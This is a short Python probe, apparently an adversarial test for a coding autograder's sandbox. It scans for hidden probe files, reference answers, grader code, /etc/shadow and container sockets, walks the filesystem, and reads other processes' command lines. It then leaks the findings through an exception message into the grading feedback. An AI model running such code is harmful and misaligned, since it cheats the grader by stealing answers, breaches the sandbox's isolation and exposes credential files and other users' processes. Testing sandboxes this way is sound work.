# adversarial: append to the release's version
# ruff: noqa
# Look for the hidden probes, the reference answers, the reference library and the grader's
# files; report what was found in an exception message (which ends up in the feedback).
import json as _json
import os as _os

_KNOWN = [
    "/work/main/autograder/probes/hw1.py",
    "/work/main/autograder/grader.py",
    "/work/main/library/needle/autograd.py",
    "/work/main/library/apps/simple_ml.py",
    "/work/main/build/autograder/reference",
    "/work/main/.venv/lib/python3.11/site-packages/needle",
    "/root/.pyenv",
    "/etc/shadow",
    "/etc/passwd",
    "/home",
    "/autograder/source",
    "/var/run/docker.sock",
    "/run/podman/podman.sock",
]
_found = [p for p in _KNOWN if _os.path.exists(p)]
_ALLOWED = (
    "/usr",
    "/lib",
    "/bin",
    "/sbin",
    "/opt/runtime",
    "/opt/site",
    "/work",
    "/tmp",
    "/proc",
    "/dev",
    "/etc/alternatives",
    "/etc/ld.so",
    "/grader/runner.py",
    "/grader/config.json",
    "/grader/lib",
    "/grader/probes.py",
)
_budget = 20000
for _root, _dirs, _files in _os.walk("/"):
    _dirs[:] = [
        d for d in _dirs if _os.path.join(_root, d) not in ("/proc", "/sys", "/dev", "/usr")
    ]
    for _name in _files:
        _budget -= 1
        _path = _os.path.join(_root, _name)
        if _name.endswith((".npz", ".npy")) or _name in ("answers.json", "hw1.py", "results.json"):
            if not _path.startswith(("/opt/site", "/opt/runtime")):
                _found.append(_path)
        elif not _path.startswith(_ALLOWED):
            _found.append(_path)
    if _budget < 0:
        break
# Other processes (the grader, other submissions) and their environment.
for _pid in _os.listdir("/proc"):
    if _pid.isdigit() and int(_pid) not in (_os.getpid(), 1, _os.getppid()):
        try:
            _found.append("pid:" + open(f"/proc/{_pid}/cmdline").read().replace("\0", " ")[:80])
        except OSError:
            pass
raise RuntimeError("ATTACK-REPORT " + _json.dumps(sorted(set(_found))))
